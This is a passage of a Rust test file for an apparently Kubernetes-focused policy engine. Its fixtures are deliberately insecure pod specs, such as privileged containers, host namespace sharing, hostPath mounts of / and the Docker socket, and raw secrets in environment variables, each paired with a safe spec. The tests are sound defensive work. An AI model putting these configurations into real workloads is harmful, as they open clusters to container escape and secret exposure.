//! Data-driven engine tests: every evaluable criterion and every default policy has a violating
//! and a passing fixture; boolean semantics have a table of their own.

use rampart_policy::compile::compile;
use rampart_policy::defaults::default_policies;
use rampart_policy::manifest::{ObjectBody, parse_text};
use rampart_policy::policy::{Policy, parse_policies};
use rampart_policy::{Deployment, EvalContext, Outcome, evaluate};

/// A Deployment named `web` in namespace `shop` with the given pod spec (YAML, indented for
/// `spec.template.spec`) and extra metadata lines.
fn workload(metadata: &str, pod_spec: &str) -> Deployment {
    let indent = |s: &str, n: usize| {
        s.lines()
            .map(|l| format!("{}{l}\n", " ".repeat(n)))
            .collect::<String>()
    };
    let yaml = format!(
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n  namespace: shop\n{}spec:\n  selector:\n    matchLabels: {{app: web}}\n  template:\n    metadata:\n      labels: {{app: web}}\n    spec:\n{}",
        indent(metadata, 2),
        indent(pod_spec, 6)
    );
    let parsed = parse_text(&yaml);
    assert!(parsed.problems.is_empty(), "{:?}\n{yaml}", parsed.problems);
    match &parsed.objects[0].body {
        ObjectBody::Workload(w) => Deployment::from_workload(w, "default"),
        _ => panic!("not a workload"),
    }
}

fn mismatched_selector() -> Deployment {
    let yaml = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: m}\nspec:\n  selector: {matchLabels: {app: a}}\n  template:\n    metadata: {labels: {app: b}}\n    spec: {containers: [{name: c, image: x:1}]}\n";
    match &parse_text(yaml).objects[0].body {
        ObjectBody::Workload(w) => Deployment::from_workload(w, "default"),
        _ => panic!("not a workload"),
    }
}

/// A safe baseline container; cases add or override fields.
const SAFE: &str = "containers:
- name: app
  image: registry.example.com/shop/web:1.2.3
  resources: {requests: {cpu: 100m, memory: 64Mi}, limits: {cpu: 500m, memory: 128Mi}}
  securityContext: {allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, runAsNonRoot: true, capabilities: {drop: [ALL]}, seccompProfile: {type: RuntimeDefault}}
  livenessProbe: {httpGet: {path: /, port: 8080}}
  readinessProbe: {httpGet: {path: /, port: 8080}}
automountServiceAccountToken: false
serviceAccountName: web";

fn policy(field: &str, values: &[&str], negate: bool, and: bool) -> Policy {
    let values: Vec<_> = values
        .iter()
        .map(|v| serde_json::json!({"value": v}))
        .collect();
    let json = serde_json::json!({
        "name": format!("test {field}"),
        "severity": "LOW_SEVERITY",
        "lifecycleStages": ["DEPLOY"],
        "policySections": [{"policyGroups": [{
            "fieldName": field, "negate": negate,
            "booleanOperator": if and { "AND" } else { "OR" }, "values": values
        }]}]
    });
    parse_policies(&json.to_string())
        .expect("valid JSON")
        .remove(0)
}

fn outcome(p: &Policy, d: &Deployment) -> Outcome {
    let compiled = compile(p).unwrap_or_else(|e| panic!("{}: {e:?}", p.name));
    evaluate(&compiled, d, &EvalContext::default())
}

#[derive(Debug, Clone, Copy)]
enum Want {
    Violated(&'static str),
    Pass,
    NotEvaluable,
}

fn check(name: &str, got: Outcome, want: Want) {
    match (want, &got) {
        (Want::Violated(fragment), Outcome::Violated(messages)) => assert!(
            messages.iter().any(|m| m.contains(fragment)),
            "{name}: expected a message containing {fragment:?}, got {messages:?}"
        ),
        (Want::Pass, Outcome::Pass) | (Want::NotEvaluable, Outcome::NotEvaluable(_)) => {}
        _ => panic!("{name}: expected {want:?}, got {got:?}"),
    }
}

/// (field, value, violating pod spec, message fragment, passing pod spec)
type Case = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
);

const CRITERIA_CASES: &[Case] = &[
    (
        "Privileged Container",
        "true",
        "containers: [{name: app, image: a:1, securityContext: {privileged: true}}]",
        "Container 'app' is privileged",
        SAFE,
    ),
    (
        "Allow Privilege Escalation",
        "true",
        "containers: [{name: app, image: a:1}]",
        "allows privilege escalation",
        SAFE,
    ),
    (
        "Read-Only Root Filesystem",
        "false",
        "containers: [{name: app, image: a:1}]",
        "read-write root filesystem",
        SAFE,
    ),
    (
        "Add Capabilities",
        "SYS_ADMIN",
        "containers: [{name: app, image: a:1, securityContext: {capabilities: {add: [CAP_SYS_ADMIN]}}}]",
        "adds capability SYS_ADMIN",
        SAFE,
    ),
    (
        "Drop Capabilities",
        "NET_RAW",
        "containers: [{name: app, image: a:1, securityContext: {capabilities: {drop: [CHOWN]}}}]",
        "does not drop expected capabilities (NET_RAW",
        SAFE,
    ),
    (
        "AppArmor Profile",
        "unconfined",
        "containers: [{name: app, image: a:1, securityContext: {appArmorProfile: {type: Unconfined}}}]",
        "AppArmor profile 'unconfined'",
        SAFE,
    ),
    (
        "Seccomp Profile Type",
        "UNCONFINED",
        "containers: [{name: app, image: a:1}]",
        "no seccomp profile set",
        SAFE,
    ),
    (
        "Container CPU Request",
        "0",
        "containers: [{name: app, image: a:1}]",
        "no CPU request set",
        SAFE,
    ),
    (
        "Container CPU Limit",
        "> 0.4",
        SAFE,
        "CPU limit of 0.5 cores",
        "containers: [{name: app, image: a:1}]",
    ),
    (
        "Container Memory Request",
        ">= 64",
        SAFE,
        "memory request of 64 MB",
        "containers: [{name: app, image: a:1}]",
    ),
    (
        "Container Memory Limit",
        "0",
        "containers: [{name: app, image: a:1}]",
        "no memory limit set",
        SAFE,
    ),
    (
        "Container Name",
        "ap+",
        SAFE,
        "has name 'app'",
        "containers: [{name: other, image: a:1}]",
    ),
    (
        "Liveness Probe Defined",
        "false",
        "containers: [{name: app, image: a:1}]",
        "does not define a liveness probe",
        SAFE,
    ),
    (
        "Readiness Probe Defined",
        "false",
        "containers: [{name: app, image: a:1}]",
        "does not define a readiness probe",
        SAFE,
    ),
    (
        "Image Registry",
        "docker\\.io",
        "containers: [{name: app, image: nginx:1.27}]",
        "from registry 'docker.io'",
        SAFE,
    ),
    (
        "Image Remote",
        ".*/nginx",
        "containers: [{name: app, image: nginx:1.27}]",
        "with remote 'library/nginx'",
        SAFE,
    ),
    (
        "Image Tag",
        "latest",
        "containers: [{name: app, image: nginx}]",
        "with tag 'latest'",
        SAFE,
    ),
    ("Namespace", "shop", SAFE, "in namespace 'shop'", "SKIP"),
    (
        "Service Account",
        "default",
        "containers: [{name: app, image: a:1}]",
        "service account 'default'",
        SAFE,
    ),
    (
        "Automount Service Account Token",
        "true",
        "containers: [{name: app, image: a:1}]",
        "mounts the service account token",
        SAFE,
    ),
    (
        "Host Network",
        "true",
        "hostNetwork: true\ncontainers: [{name: app, image: a:1}]",
        "uses the host's network namespace",
        SAFE,
    ),
    (
        "Host PID",
        "true",
        "hostPID: true\ncontainers: [{name: app, image: a:1}]",
        "process ID namespace",
        SAFE,
    ),
    (
        "Host IPC",
        "true",
        "hostIPC: true\ncontainers: [{name: app, image: a:1}]",
        "IPC namespace",
        SAFE,
    ),
    (
        "Runtime Class",
        "gvisor",
        "runtimeClassName: gvisor\ncontainers: [{name: app, image: a:1}]",
        "runtime class 'gvisor'",
        SAFE,
    ),
    (
        "Exposed Port",
        "22",
        "containers: [{name: app, image: a:1, ports: [{containerPort: 22}]}]",
        "exposes port 22/TCP",
        SAFE,
    ),
    (
        "Exposed Port Protocol",
        "UDP",
        "containers: [{name: app, image: a:1, ports: [{containerPort: 53, protocol: UDP}]}]",
        "exposes port 53/UDP",
        "containers: [{name: app, image: a:1, ports: [{containerPort: 53}]}]",
    ),
    (
        "Exposed Node Port",
        "<= 1024",
        "containers: [{name: app, image: a:1, ports: [{containerPort: 80, hostPort: 80}]}]",
        "node port 80 (hostPort)",
        SAFE,
    ),
    (
        "Port Exposure Method",
        "HOST",
        "containers: [{name: app, image: a:1, ports: [{containerPort: 80, hostPort: 8080}]}]",
        "exposure HOST",
        SAFE,
    ),
    (
        "Volume Name",
        "sock",
        "containers: [{name: app, image: a:1, volumeMounts: [{name: sock, mountPath: /s}]}]\nvolumes: [{name: sock, hostPath: {path: /var/run/docker.sock}}]",
        "mounts volume 'sock' (HostPath /var/run/docker.sock)",
        SAFE,
    ),
    (
        "Volume Source",
        "/etc(/.*)?",
        "containers: [{name: app, image: a:1, volumeMounts: [{name: h, mountPath: /h, readOnly: true}]}]\nvolumes: [{name: h, hostPath: {path: /etc/kubernetes}}]",
        "(HostPath /etc/kubernetes) at /h (read-only)",
        SAFE,
    ),
    (
        "Volume Destination",
        "/data",
        "containers: [{name: app, image: a:1, volumeMounts: [{name: d, mountPath: /data}]}]\nvolumes: [{name: d, emptyDir: {}}]",
        "at /data (writable)",
        SAFE,
    ),
    (
        "Volume Type",
        "Secret",
        "containers: [{name: app, image: a:1, volumeMounts: [{name: s, mountPath: /s}]}]\nvolumes: [{name: s, secret: {secretName: creds}}]",
        "(Secret creds)",
        SAFE,
    ),
    (
        "Mount Propagation",
        "BIDIRECTIONAL",
        "containers: [{name: app, image: a:1, volumeMounts: [{name: d, mountPath: /d, mountPropagation: Bidirectional}]}]\nvolumes: [{name: d, hostPath: {path: /mnt}}]",
        "propagation BIDIRECTIONAL",
        SAFE,
    ),
    (
        "Writable Mounted Volume",
        "true",
        "containers: [{name: app, image: a:1, volumeMounts: [{name: d, mountPath: /d}]}]\nvolumes: [{name: d, emptyDir: {}}]",
        "(writable)",
        SAFE,
    ),
    (
        "Writable Host Mount",
        "true",
        "containers: [{name: app, image: a:1, volumeMounts: [{name: d, mountPath: /d}]}]\nvolumes: [{name: d, hostPath: {path: /mnt}}]",
        "(HostPath /mnt) at /d (writable)",
        "containers: [{name: app, image: a:1, volumeMounts: [{name: d, mountPath: /d}]}]\nvolumes: [{name: d, emptyDir: {}}]",
    ),
    (
        "Environment Variable",
        "RAW=.*PASSWORD.*=",
        "containers: [{name: app, image: a:1, env: [{name: DB_PASSWORD, value: hunter2}]}]",
        "Environment variable 'DB_PASSWORD' in container 'app' has a raw value",
        "containers: [{name: app, image: a:1, env: [{name: DB_PASSWORD, valueFrom: {secretKeyRef: {name: db, key: pw}}}]}]",
    ),
    (
        "Environment Variable",
        "SECRET_KEY==",
        "containers: [{name: app, image: a:1, env: [{name: TOKEN, valueFrom: {secretKeyRef: {name: api, key: token}}}]}]",
        "is set from secret key 'api/token'",
        SAFE,
    ),
    (
        "Replicas",
        "< 2",
        "containers: [{name: app, image: a:1}]",
        "has 1 replica",
        "SKIP",
    ),
    (
        "Run As Non-Root",
        "false",
        "containers: [{name: app, image: a:1}]",
        "may run as root",
        SAFE,
    ),
    (
        "Run As Non-Root",
        "false",
        "securityContext: {runAsNonRoot: true}\ncontainers: [{name: app, image: a:1, securityContext: {runAsUser: 0}}]",
        "runs as root (runAsUser: 0)",
        "securityContext: {runAsUser: 1000}\ncontainers: [{name: app, image: a:1}]",
    ),
    (
        "Unsafe Sysctl",
        "true",
        "securityContext: {sysctls: [{name: kernel.msgmax, value: '65536'}]}\ncontainers: [{name: app, image: a:1}]",
        "unsafe sysctls: kernel.msgmax",
        "securityContext: {sysctls: [{name: net.ipv4.tcp_syncookies, value: '1'}]}\ncontainers: [{name: app, image: a:1}]",
    ),
    (
        "Duplicate Environment Variable",
        "true",
        "containers: [{name: app, image: a:1, env: [{name: A, value: '1'}, {name: A, value: '2'}]}]",
        "more than once: A",
        SAFE,
    ),
    (
        "Unmasked Proc Mount",
        "true",
        "containers: [{name: app, image: a:1, securityContext: {procMount: Unmasked}}]",
        "procMount: Unmasked",
        SAFE,
    ),
    (
        "Deprecated Service Account Field",
        "true",
        "serviceAccount: legacy\ncontainers: [{name: app, image: a:1}]",
        "deprecated serviceAccount field ('legacy')",
        SAFE,
    ),
];

#[test]
fn every_evaluable_criterion_violates_and_passes() {
    for (field, value, violating, fragment, passing) in CRITERIA_CASES {
        let p = policy(field, &[value], false, false);
        check(
            &format!("{field}={value} violating"),
            outcome(&p, &workload("", violating)),
            Want::Violated(fragment),
        );
        if *passing != "SKIP" {
            check(
                &format!("{field}={value} passing"),
                outcome(&p, &workload("", passing)),
                Want::Pass,
            );
        }
    }
}

#[test]
fn metadata_criteria() {
    let labelled = workload(
        "labels: {team: payments}\nannotations: {owner: alice, admission.rampart.io/break-glass: 'INC-42'}",
        SAFE,
    );
    let bare = workload("", SAFE);
    let required_label = policy("Required Label", &["owner|team=.+"], false, false);
    check(
        "required label present",
        outcome(&required_label, &labelled),
        Want::Pass,
    );
    check(
        "required label missing",
        outcome(&required_label, &bare),
        Want::Violated("Required label not found"),
    );
    let required_annotation = policy("Required Annotation", &["owner=.+"], false, false);
    check(
        "required annotation present",
        outcome(&required_annotation, &labelled),
        Want::Pass,
    );
    check(
        "required annotation missing",
        outcome(&required_annotation, &bare),
        Want::Violated("Required annotation not found"),
    );
    let disallowed = policy(
        "Disallowed Annotation",
        &["admission.rampart.io/break-glass="],
        false,
        false,
    );
    check(
        "disallowed annotation",
        outcome(&disallowed, &labelled),
        Want::Violated("admission.rampart.io/break-glass=INC-42"),
    );
    check(
        "disallowed annotation absent",
        outcome(&disallowed, &bare),
        Want::Pass,
    );
    let mismatched = mismatched_selector();
    let selector = policy("Selector Matches Pod Labels", &["false"], false, false);
    check(
        "mismatched selector",
        outcome(&selector, &mismatched),
        Want::Violated("does not match its pod template labels (app=b)"),
    );
    check("matching selector", outcome(&selector, &bare), Want::Pass);
}

#[test]
fn criteria_needing_more_than_a_manifest_are_not_evaluable() {
    let d = workload(
        "",
        "containers: [{name: app, image: a:1, ports: [{containerPort: 8080}]}]",
    );
    for (field, value) in [
        ("CVE", "CVE-2021-44228"),
        ("Image Age", "30"),
        ("Image User", "root"),
        ("Minimum RBAC Permissions", "CLUSTER_ADMIN"),
        ("Has Ingress Network Policy", "false"),
        ("Port Exposure Method", "EXTERNAL"),
        ("Exposed Node Port", "> 30000"),
    ] {
        check(
            field,
            outcome(&policy(field, &[value], false, false), &d),
            Want::NotEvaluable,
        );
    }
}

#[test]
fn cluster_context_criteria_evaluate_once_the_cluster_is_known() {
    use rampart_policy::{ClusterContext, PortExposure};
    let mut d = workload(
        "",
        "containers: [{name: app, image: a:1, ports: [{containerPort: 8080}, {containerPort: 9090}]}]",
    );
    d.cluster = Some(ClusterContext {
        rbac_level: "ELEVATED_CLUSTER_WIDE".into(),
        ingress_network_policy: true,
        egress_network_policy: false,
        exposures: vec![PortExposure {
            container: "app".into(),
            container_port: 8080,
            protocol: "TCP".into(),
            level: "NODE".into(),
            service_name: "web".into(),
            node_port: 30080,
        }],
    });
    let cases: &[(&str, &str, bool, Want)] = &[
        (
            "Minimum RBAC Permissions",
            "ELEVATED_IN_NAMESPACE",
            false,
            Want::Violated("elevated cluster-wide"),
        ),
        (
            "Minimum RBAC Permissions",
            "ELEVATED_CLUSTER_WIDE",
            false,
            Want::Violated("Service account 'default'"),
        ),
        (
            "Minimum RBAC Permissions",
            "CLUSTER_ADMIN",
            false,
            Want::Pass,
        ),
        (
            "Minimum RBAC Permissions",
            "CLUSTER_ADMIN",
            true,
            Want::Violated(""),
        ),
        ("Has Ingress Network Policy", "false", false, Want::Pass),
        (
            "Has Egress Network Policy",
            "false",
            false,
            Want::Violated("No egress NetworkPolicy"),
        ),
        (
            "Port Exposure Method",
            "NODE",
            false,
            Want::Violated("port 8080/TCP with exposure NODE (service 'web')"),
        ),
        ("Port Exposure Method", "EXTERNAL", false, Want::Pass),
        // Port 9090 is exposed by nothing: UNSET.
        (
            "Port Exposure Method",
            "UNSET",
            false,
            Want::Violated("port 9090/TCP with exposure UNSET"),
        ),
        (
            "Exposed Node Port",
            "> 30000",
            false,
            Want::Violated("node port 30080 (service 'web')"),
        ),
        ("Exposed Node Port", "< 30000", false, Want::Pass),
    ];
    for (field, value, negate, want) in cases {
        check(
            &format!("{field} {value} negate={negate}"),
            outcome(&policy(field, &[value], *negate, false), &d),
            *want,
        );
    }
}

/// (description, section groups as JSON, pod spec, violated?)
const BOOLEAN_CASES: &[(&str, &str, &str, Option<bool>)] = &[
    (
        "groups are ANDed: both hold",
        r#"[{"fieldName":"Privileged Container","values":[{"value":"true"}]},{"fieldName":"Image Tag","values":[{"value":"latest"}]}]"#,
        "containers: [{name: a, image: nginx, securityContext: {privileged: true}}]",
        Some(true),
    ),
    (
        "groups are ANDed: one fails",
        r#"[{"fieldName":"Privileged Container","values":[{"value":"true"}]},{"fieldName":"Image Tag","values":[{"value":"latest"}]}]"#,
        "containers: [{name: a, image: nginx:1, securityContext: {privileged: true}}]",
        Some(false),
    ),
    (
        "container groups must match the same container",
        r#"[{"fieldName":"Privileged Container","values":[{"value":"true"}]},{"fieldName":"Image Tag","values":[{"value":"latest"}]}]"#,
        "containers: [{name: a, image: nginx, securityContext: {privileged: false}}, {name: b, image: nginx:1, securityContext: {privileged: true}}]",
        Some(false),
    ),
    (
        "values are ORed by default",
        r#"[{"fieldName":"Image Tag","values":[{"value":"latest"},{"value":"dev"}]}]"#,
        "containers: [{name: a, image: nginx:dev}]",
        Some(true),
    ),
    (
        "AND values must all hold",
        r#"[{"fieldName":"Exposed Port","booleanOperator":"AND","values":[{"value":"> 1000"},{"value":"< 2000"}]}]"#,
        "containers: [{name: a, image: x:1, ports: [{containerPort: 2222}]}]",
        Some(false),
    ),
    (
        "AND values all hold",
        r#"[{"fieldName":"Exposed Port","booleanOperator":"AND","values":[{"value":"> 1000"},{"value":"< 2000"}]}]"#,
        "containers: [{name: a, image: x:1, ports: [{containerPort: 1500}]}]",
        Some(true),
    ),
    (
        "AND over list elements: each value by some capability",
        r#"[{"fieldName":"Add Capabilities","booleanOperator":"AND","values":[{"value":"NET_ADMIN"},{"value":"SYS_TIME"}]}]"#,
        "containers: [{name: a, image: x:1, securityContext: {capabilities: {add: [NET_ADMIN]}}}]",
        Some(false),
    ),
    (
        "negate inverts a group",
        r#"[{"fieldName":"Namespace","negate":true,"values":[{"value":"shop"}]}]"#,
        "containers: [{name: a, image: x:1}]",
        Some(false),
    ),
    (
        "negate with another group",
        r#"[{"fieldName":"Namespace","negate":true,"values":[{"value":"kube-.*"}]},{"fieldName":"Host Network","values":[{"value":"true"}]}]"#,
        "hostNetwork: true\ncontainers: [{name: a, image: x:1}]",
        Some(true),
    ),
    (
        "regex is whole-string",
        r#"[{"fieldName":"Image Tag","values":[{"value":"late"}]}]"#,
        "containers: [{name: a, image: nginx}]",
        Some(false),
    ),
    (
        "regex is case-insensitive",
        r#"[{"fieldName":"Image Tag","values":[{"value":"LATEST"}]}]"#,
        "containers: [{name: a, image: nginx}]",
        Some(true),
    ),
    (
        "volume groups must match the same volume",
        r#"[{"fieldName":"Volume Type","values":[{"value":"HostPath"}]},{"fieldName":"Writable Mounted Volume","values":[{"value":"true"}]}]"#,
        "containers: [{name: a, image: x:1, volumeMounts: [{name: h, mountPath: /h, readOnly: true}, {name: e, mountPath: /e}]}]\nvolumes: [{name: h, hostPath: {path: /x}}, {name: e, emptyDir: {}}]",
        Some(false),
    ),
    (
        "unknown AND false is false",
        r#"[{"fieldName":"CVE","values":[{"value":"CVE-1"}]},{"fieldName":"Privileged Container","values":[{"value":"true"}]}]"#,
        "containers: [{name: a, image: x:1}]",
        Some(false),
    ),
    (
        "unknown AND true is unknown",
        r#"[{"fieldName":"CVE","values":[{"value":"CVE-1"}]},{"fieldName":"Privileged Container","values":[{"value":"true"}]}]"#,
        "containers: [{name: a, image: x:1, securityContext: {privileged: true}}]",
        None,
    ),
];

#[test]
fn boolean_semantics() {
    for (name, groups, pod, want) in BOOLEAN_CASES {
        let json = format!(
            r#"{{"name":"t","severity":"LOW_SEVERITY","lifecycleStages":["DEPLOY"],"policySections":[{{"policyGroups":{groups}}}]}}"#
        );
        let p = parse_policies(&json).expect("valid").remove(0);
        let want = match want {
            Some(true) => Want::Violated(""),
            Some(false) => Want::Pass,
            None => Want::NotEvaluable,
        };
        check(name, outcome(&p, &workload("", pod)), want);
    }
    // Sections are ORed: the second section matches.
    let json = r#"{"name":"t","severity":"LOW_SEVERITY","lifecycleStages":["DEPLOY"],"policySections":[
        {"policyGroups":[{"fieldName":"Host PID","values":[{"value":"true"}]}]},
        {"policyGroups":[{"fieldName":"Host IPC","values":[{"value":"true"}]}]}]}"#;
    let p = parse_policies(json).expect("valid").remove(0);
    check(
        "sections ORed",
        outcome(
            &p,
            &workload("", "hostIPC: true\ncontainers: [{name: a, image: x:1}]"),
        ),
        Want::Violated("IPC"),
    );
    check(
        "sections ORed, none",
        outcome(&p, &workload("", SAFE)),
        Want::Pass,
    );
}

#[test]
fn a_violation_says_each_thing_once_in_evaluation_order() {
    // The same criterion twice in a section, and groups of several stages listed env first.
    let json = r#"{"name":"t","severity":"LOW_SEVERITY","lifecycleStages":["DEPLOY"],"policySections":[
        {"policyGroups":[
            {"fieldName":"Environment Variable","values":[{"value":"RAW=MODE=debug"}]},
            {"fieldName":"Privileged Container","values":[{"value":"true"}]},
            {"fieldName":"Privileged Container","values":[{"value":"true"}]},
            {"fieldName":"Namespace","values":[{"value":"shop"}]}]}]}"#;
    let p = parse_policies(json).expect("valid").remove(0);
    let d = workload(
        "",
        "containers:\n- name: app\n  image: x:1\n  securityContext: {privileged: true}\n  env: [{name: MODE, value: debug}]",
    );
    let Outcome::Violated(messages) = outcome(&p, &d) else {
        panic!("not violated");
    };
    assert_eq!(messages.len(), 3, "{messages:?}");
    assert!(messages[0].contains("namespace 'shop'"), "{messages:?}");
    assert!(messages[1].contains("is privileged"), "{messages:?}");
    assert!(messages[2].contains("'MODE'"), "{messages:?}");
}

#[test]
fn scope_and_exclusions() {
    let json = r#"{"name":"t","severity":"LOW_SEVERITY","lifecycleStages":["DEPLOY"],
        "scope":[{"namespace":"shop"}],
        "exclusions":[{"name":"web is fine until 2001","deployment":{"name":"web"},"expiration":"2001-01-01T00:00:00Z"},
                      {"name":"api is fine","deployment":{"name":"api","scope":{"namespace":"shop"}}}],
        "policySections":[{"policyGroups":[{"fieldName":"Image Tag","values":[{"value":"latest"}]}]}]}"#;
    let p = parse_policies(json).expect("valid").remove(0);
    let d = workload("", "containers: [{name: a, image: nginx}]");
    // The exclusion for `web` has expired, so it is evaluated.
    check(
        "expired exclusion",
        outcome(&p, &d),
        Want::Violated("latest"),
    );
    let mut api = d.clone();
    api.name = "api".into();
    assert_eq!(outcome(&p, &api), Outcome::Excluded("api is fine".into()));
    let mut elsewhere = d.clone();
    elsewhere.namespace = "other".into();
    assert_eq!(outcome(&p, &elsewhere), Outcome::OutOfScope);
}

/// `violations` checks scope and exclusions after the criteria, `evaluate` before: the same
/// violations either way, for every default policy and for scoped and excluded ones.
#[test]
fn violations_alone_are_what_evaluate_calls_violated() {
    let scoped = r#"{"name":"t","severity":"LOW_SEVERITY","lifecycleStages":["DEPLOY"],
        "scope":[{"namespace":"shop"}],
        "exclusions":[{"name":"api is fine","deployment":{"name":"api","scope":{"namespace":"shop"}}},
                      {"name":"expired","deployment":{"name":"web"},"expiration":"2001-01-01T00:00:00Z"}],
        "policySections":[{"policyGroups":[{"fieldName":"Image Tag","values":[{"value":"latest"}]}]}]}"#;
    let mut policies = default_policies();
    policies.extend(parse_policies(scoped).expect("valid"));
    let specs = [
        "hostPID: true\nhostNetwork: true\ncontainers: [{name: a, image: 'docker.io/library/ubuntu:latest', securityContext: {privileged: true, capabilities: {add: [SYS_ADMIN, NET_RAW]}}, ports: [{containerPort: 22, hostPort: 22}], env: [{name: AWS_SECRET_ACCESS_KEY, value: x}], volumeMounts: [{name: root, mountPath: /host}]}]\nvolumes: [{name: root, hostPath: {path: /}}]",
        "containers: [{name: a, image: nginx}]\ninitContainers: [{name: b, image: 'x:1', securityContext: {runAsUser: 0}}]",
        SAFE,
    ];
    let ctx = EvalContext::default();
    let mut violated = 0;
    for spec in specs {
        for (name, namespace) in [("web", "shop"), ("api", "shop"), ("web", "kube-system")] {
            let mut d = workload("", spec);
            d.name = name.into();
            d.namespace = namespace.into();
            for p in &policies {
                let compiled = compile(p).expect("valid");
                let want = match rampart_policy::evaluate(&compiled, &d, &ctx) {
                    Outcome::Violated(v) => Some(v),
                    _ => None,
                };
                violated += usize::from(want.is_some());
                assert_eq!(
                    rampart_policy::violations(&compiled, &d, &ctx),
                    want,
                    "{} on {name} in {namespace}",
                    p.name
                );
            }
        }
    }
    assert!(violated > 20, "the fixtures violate policies ({violated})");
}

/// Default policies: (name, violating pod spec or None for image-data policies, passing pod spec).
#[test]
fn every_default_deploy_policy_has_a_violating_and_a_passing_fixture() {
    let cases: &[(&str, &str)] = &[
        (
            "CAP_SYS_ADMIN capability added",
            "containers: [{name: a, image: x:1, securityContext: {capabilities: {add: [SYS_ADMIN]}}}]",
        ),
        (
            "Container using read-write root filesystem",
            "containers: [{name: a, image: x:1}]",
        ),
        (
            "Container with privilege escalation allowed",
            "containers: [{name: a, image: x:1, securityContext: {allowPrivilegeEscalation: true}}]",
        ),
        (
            "Docker CIS 5.1 Ensure that, if applicable, an AppArmor Profile is enabled",
            "containers: [{name: a, image: x:1, securityContext: {appArmorProfile: {type: Unconfined}}}]",
        ),
        (
            "Docker CIS 5.15: Ensure that the host's process namespace is not shared",
            "hostPID: true\ncontainers: [{name: a, image: x:1}]",
        ),
        (
            "Docker CIS 5.16: Ensure that the host's IPC namespace is not shared",
            "hostIPC: true\ncontainers: [{name: a, image: x:1}]",
        ),
        (
            "Docker CIS 5.19: Ensure mount propagation mode is not enabled",
            "containers: [{name: a, image: x:1, volumeMounts: [{name: d, mountPath: /d, mountPropagation: Bidirectional}]}]\nvolumes: [{name: d, hostPath: {path: /mnt}}]",
        ),
        (
            "Docker CIS 5.21: Ensure the default seccomp profile is not disabled",
            "containers: [{name: a, image: x:1}]",
        ),
        (
            "Docker CIS 5.7: Ensure privileged ports are not mapped within containers",
            "containers: [{name: a, image: x:1, ports: [{containerPort: 80, hostPort: 80}]}]",
        ),
        (
            "Docker CIS 5.9 and 5.20: Ensure that the host's network namespace is not shared",
            "hostNetwork: true\ncontainers: [{name: a, image: x:1}]",
        ),
        (
            "Drop All Capabilities",
            "containers: [{name: a, image: x:1}]",
        ),
        (
            "Environment Variable Contains Secret",
            "containers: [{name: a, image: x:1, env: [{name: API_TOKEN, value: abc}]}]",
        ),
        (
            "Kubernetes Dashboard Deployed",
            "containers: [{name: a, image: kubernetesui/dashboard:v2.7.0}]",
        ),
        (
            "Mount Container Runtime Socket",
            "containers: [{name: a, image: x:1, volumeMounts: [{name: s, mountPath: /var/run/docker.sock}]}]\nvolumes: [{name: s, hostPath: {path: /var/run/docker.sock}}]",
        ),
        (
            "Mounting Sensitive Host Directories",
            "containers: [{name: a, image: x:1, volumeMounts: [{name: s, mountPath: /host-etc}]}]\nvolumes: [{name: s, hostPath: {path: /etc}}]",
        ),
        (
            "No CPU request or memory limit specified",
            "containers: [{name: a, image: x:1}]",
        ),
        (
            "Pod Service Account Token Automatically Mounted",
            "containers: [{name: a, image: x:1}]",
        ),
        (
            "Privileged Container",
            "containers: [{name: a, image: x:1, securityContext: {privileged: true}}]",
        ),
        (
            "Secret Mounted as Environment Variable",
            "containers: [{name: a, image: x:1, env: [{name: T, valueFrom: {secretKeyRef: {name: s, key: k}}}]}]",
        ),
        (
            "Secure Shell (ssh) Port Exposed",
            "containers: [{name: a, image: x:1, ports: [{containerPort: 22}]}]",
        ),
        ("Latest tag", "containers: [{name: a, image: nginx}]"),
        (
            "Container may run as root",
            "containers: [{name: a, image: x:1}]",
        ),
        (
            "Container does not drop NET_RAW",
            "containers: [{name: a, image: x:1}]",
        ),
        (
            "Sensitive host path mounted",
            "containers: [{name: a, image: x:1, volumeMounts: [{name: r, mountPath: /host}]}]\nvolumes: [{name: r, hostPath: {path: /}}]",
        ),
        (
            "Unsafe sysctls",
            "securityContext: {sysctls: [{name: kernel.sem, value: '1'}]}\ncontainers: [{name: a, image: x:1}]",
        ),
        (
            "Duplicate environment variables",
            "containers: [{name: a, image: x:1, env: [{name: X, value: '1'}, {name: X, value: '2'}]}]",
        ),
        (
            "Default service account used",
            "containers: [{name: a, image: x:1}]",
        ),
        (
            "Writable host mount",
            "containers: [{name: a, image: x:1, volumeMounts: [{name: h, mountPath: /h}]}]\nvolumes: [{name: h, hostPath: {path: /opt}}]",
        ),
        (
            "Unmasked /proc mount",
            "containers: [{name: a, image: x:1, securityContext: {procMount: Unmasked}}]",
        ),
        (
            "Deprecated serviceAccount field",
            "serviceAccount: old\ncontainers: [{name: a, image: x:1}]",
        ),
        ("No liveness probe", "containers: [{name: a, image: x:1}]"),
        ("No readiness probe", "containers: [{name: a, image: x:1}]"),
    ];
    // Metadata-only policies and those needing more data are covered below.
    let metadata_cases: &[(&str, &str)] = &[
        (
            "Emergency Deployment Annotation",
            "annotations: {admission.stackrox.io/break-glass: 'yes'}",
        ),
        (
            "Required Annotation: Email",
            "annotations: {email: not-an-address}",
        ),
        (
            "Required Annotation: Owner/Team",
            "annotations: {contact: x}",
        ),
        ("Required Label: Owner/Team", "labels: {app: web}"),
    ];
    let passing_metadata =
        "labels: {team: shop}\nannotations: {owner: shop-team, email: shop@example.com}";
    let policies = default_policies();
    let find = |name: &str| {
        policies
            .iter()
            .find(|p| p.name == name)
            .unwrap_or_else(|| panic!("no default policy {name}"))
    };
    let mut covered = std::collections::BTreeSet::new();
    for (name, violating) in cases {
        let p = find(name);
        check(
            name,
            outcome(p, &workload("", violating)),
            Want::Violated(""),
        );
        check(
            name,
            outcome(p, &workload(passing_metadata, SAFE)),
            Want::Pass,
        );
        covered.insert(*name);
    }
    for (name, metadata) in metadata_cases {
        let p = find(name);
        check(
            name,
            outcome(p, &workload(metadata, SAFE)),
            Want::Violated(""),
        );
        check(
            name,
            outcome(p, &workload(passing_metadata, SAFE)),
            Want::Pass,
        );
        covered.insert(*name);
    }
    let name = "Selector does not match pod labels";
    check(
        name,
        outcome(find(name), &mismatched_selector()),
        Want::Violated("does not match"),
    );
    check(
        name,
        outcome(find(name), &workload(passing_metadata, SAFE)),
        Want::Pass,
    );
    covered.insert(name);
